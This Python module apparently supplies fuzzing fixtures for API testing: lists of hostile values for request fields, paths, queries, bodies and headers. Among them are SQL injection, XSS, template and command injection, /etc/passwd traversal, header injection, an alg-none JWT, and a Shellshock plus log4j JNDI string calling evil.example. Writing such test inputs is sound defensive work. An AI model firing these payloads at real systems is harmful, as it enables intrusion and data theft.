"""What nobody's client sends: one list of hostile values for each kind of place in a request.

A text holds MARK, which becomes a word of its own in each request: so it is known afterwards which of them was kept,
and where.
"""

import json
from typing import Any

MARK = "@mark@"


class Raw(str):
    """JSON to be sent as it stands: what no serializer writes."""


# May be refused or taken; taken, they are data and no more.
TEXTS = (
    "'; DROP TABLE users; --" + MARK,
    "' OR '1'='1" + MARK,
    "%' UNION SELECT password_hash FROM users --" + MARK,
    "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}" + MARK,
    "${7*7}#{7*7}<%= 7*7 %>" + MARK,
    "<script>alert(1)</script>" + MARK,
    '"><img src=x onerror=alert(1)>' + MARK,
    '=HYPERLINK("http://evil.example","' + MARK + '")',
    "+1+1" + MARK,
    "@SUM(A1:A9)" + MARK,
    "../../../../etc/passwd" + MARK,
    "..%2f..%2fetc%2fpasswd" + MARK,
    "$(touch /tmp/x)`id`;|&" + MARK,
    '\\"\\\\' + MARK,
    "%s%s%n%(name)s{0}" + MARK,
    "Cafe\u0301 " + MARK,
    "مرحبا שלום" + MARK,
    "👩\u200d🎤🏳️\u200d🌈" + MARK,
    "zero\u200bwidth" + MARK,
    "ﬀＦＵＬＬ" + MARK,
    "Z" + "\u0351" * 80 + MARK,
    "null" + MARK,
    "true" + MARK,
    "https://evil.example/" + MARK,
)
# Never stored: PostgreSQL cannot, or mails and pages would be turned by them.
UNSTORABLE = (
    "nul\x00" + MARK,
    Raw('"lone \\ud800' + MARK + '"'),
    Raw('"lone \\udfff' + MARK + '"'),
)
ONE_LINE_ONLY = (
    "two\r\nBcc: victim@example.com" + MARK,
    "line\u2028separator" + MARK,
    "\u202egpj.exe" + MARK,
    "\x1b[31m\x7f\x85" + MARK,
)
BLANK = ("", " ", "\u200b", "\ufeff")
LONG = ("x" * 300_000 + MARK, "é" * 70_000 + MARK)
OTHER_TYPES: tuple[Any, ...] = (None, True, 0, [], {}, [[]], {"$ne": None}, {"toString": 1}, ["a", "b"])
NUMBERS: tuple[Any, ...] = (
    *(2**31 - 1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -1, -(2**63) - 1),
    *(
        Raw("1e309"),
        Raw("-1e309"),
        Raw("NaN"),
        Raw("Infinity"),
        Raw("-0"),
        Raw("-0.0"),
        Raw("1e2"),
        Raw("1E-400"),
    ),
    *(Raw("1" + "0" * 400), Raw("1" + "0" * 5000), 0.1, 1.0, "1", "١", "0x10", "1_0", " 1", "1;" + MARK),
)
AMOUNTS: tuple[Any, ...] = (
    *(
        "-0.01",
        "0.001",
        "49.999",
        "99999999.99",
        "100000000.00",
        "1e2",
        "1E400",
        "NaN",
        "-0.00",
        "+1",
        "1,00",
    ),
    *(
        "١.00",
        "1_000",
        "0x10",
        "9" * 5000,
        "",
        " ",
        True,
        Raw("1e309"),
        Raw("0.1000000000000000055"),
        Raw("-0.0"),
    ),
)
INSTANTS: tuple[Any, ...] = (
    *(
        "0000-01-01T00:00:00Z",
        "0001-01-01T00:00:00+23:59",
        "9999-12-31T23:59:59Z",
        "9999-12-31T23:59:59-23:59",
    ),
    *("10000-01-01T00:00:00Z", "-2030-01-01T00:00:00Z", "2030-06-30T23:59:60Z", "2030-02-30T00:00:00Z"),
    *(
        "2030-01-01T24:00:00Z",
        "2030-01-01T00:00:00",
        "2030-01-01T00:00:00+24:00",
        "2030-01-01T00:00:00+00:00:30",
    ),
    *(
        "2030-01-01T00:00:00." + "9" * 400 + "Z",
        "1893456000",
        1893456000,
        10**18,
        "2030-01-01",
        "now",
        "٢٠٣٠-01-01T00:00:00Z",
    ),
    *("0000-00-00", "9999-12-31", "2030-01-01T00:00:00Z; DROP TABLE events" + MARK),
)
IDS: tuple[Any, ...] = (
    *(
        "0",
        "-1",
        "None",
        "null",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
    ),
    *(
        "{6e7f7b9a-0d2c-4a4b-9a59-b4c6a1b3a111}",
        "urn:uuid:6e7f7b9a-0d2c-4a4b-9a59-b4c6a1b3a111",
        "6E7F7B9A0D2C4A4B9A59B4C6A1B3A111",
    ),
    *(
        "6e7f7b9a-0d2c-4a4b-9a59-b4c6a1b3a111' --",
        "6e7f7b9a-0d2c-4a4b-9a59-b4c6a1b3a111\x00",
        "x" * 5000 + MARK,
    ),
)
WORDS = {"uuid": IDS, "date-time": INSTANTS, "date": INSTANTS}

# A path as it stands in the URL, after a slash.
PATH_PARTS = (
    *(
        "..",
        "%2e%2e",
        "..%2f..%2f",
        "%2f",
        "%5c..%5c",
        "%00",
        "%0d%0aX-Injected:%201",
        "%ff%fe",
        "%ed%a0%80",
        "%",
    ),
    *(
        "%25",
        "%zz",
        ";jsessionid=1",
        "*",
        "~",
        "%E2%80%AE",
        "'%20OR%20'1'='1",
        "x" * 3000,
        "%c0%ae%c0%ae%2f",
        ".",
    ),
)
QUERIES = (
    *(
        "%00",
        "%ff",
        "%ed%a0%80",
        "%0d%0aX-Injected:%201",
        "'%20OR%20'1'='1",
        "%25",
        "%",
        "a%26limit=1",
        "[]",
        "{}",
    ),
    *("x" * 3000, "%E2%80%AE" + "x", "-1", "0", "1e3", "1.0", "99999999999999999999", "true", "null", ""),
)
CURSORS = (
    "WyJhIl0",
    "W10",
    "e30",
    "bnVsbA",
    "WzFd",
    "W1tbW1tbXV1dXV1d",
    "WyJcdTAwMDAiXQ",
    "=",
    "%%%%",
    "A" * 501,
)

BODIES: tuple[bytes, ...] = (
    *(
        b"{",
        b"[]",
        b"null",
        b"1",
        b'"x"',
        b"\xff\xfe",
        b"\x00",
        b"not json",
        b"<x/>",
        b"a=b",
        b"NaN",
        b"\xef\xbb\xbf{}",
    ),
    *(
        b"[" * 50_000,
        b'{"a":' * 20_000,
        b"{}" + b" " * 10 + b"{}",
        b'{"a": 1,}',
        b"{'a': 1}",
        b'{"\\ud800": 1}',
    ),
    b'{"__proto__": {"admin": true}, "constructor": 1}',
    json.dumps({f"field{number}": number for number in range(2000)}).encode(),
)
TYPES = (
    "text/plain",
    "application/xml",
    "multipart/form-data; boundary=x",
    "application/json; charset=utf-16",
    "x" * 4000,
)
HEADERS: tuple[tuple[str, str], ...] = (
    ("Idempotency-Key", "x" * 256),
    ("Idempotency-Key", "schl\u00fcssel"),
    ("Idempotency-Key", "tab\tbed"),
    ("Idempotency-Key", "'; DROP TABLE idempotency_keys; --"),
    ("API-Version", "1; DROP"),
    ("API-Version", "\u0661"),
    ("If-Match", "x" * 4000),
    ("If-Match", '"\u00ff"'),
    ("Authorization", "Bearer " + "x" * 8000),
    ("Authorization", "Bearer \u00ff.\u00ff.\u00ff"),
    ("Authorization", "Basic YTpi"),
    ("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),
    ("X-Request-Id", "<script>alert(1)</script>"),
    ("X-Request-Id", "x" * 4000),
    ("X-Forwarded-For", "127.0.0.1' OR 1=1, ::1, unknown"),
    ("Origin", "null"),
    ("Origin", "https://evil.example"),
    ("Host", "evil.example"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("Content-Encoding", "gzip"),
    ("Accept", "application/xml;q=9, \u00ff"),
    ("Cookie", "session=" + "x" * 4000),
    ("User-Agent", "() { :;}; /bin/true ${jndi:ldap://evil.example/a}"),
)


def in_json(body: Any) -> bytes:
    """A body as JSON, with what is raw in it as it stands."""
    raws: list[Raw] = []

    def plain(value: Any) -> Any:
        if isinstance(value, Raw):
            raws.append(value)
            return f"@raw{len(raws) - 1}@"
        if isinstance(value, dict):
            return {key: plain(item) for key, item in value.items()}
        return [plain(item) for item in value] if isinstance(value, list) else value

    text = json.dumps(plain(body))
    for number, raw in enumerate(raws):
        text = text.replace(f'"@raw{number}@"', raw)
    return text.encode("utf-8", "surrogatepass")


def marked(value: Any, mark: str) -> Any:
    """The value with `mark` in the place that is kept for it."""
    if isinstance(value, Raw):
        return Raw(value.replace(MARK, mark))
    return value.replace(MARK, mark) if isinstance(value, str) else value
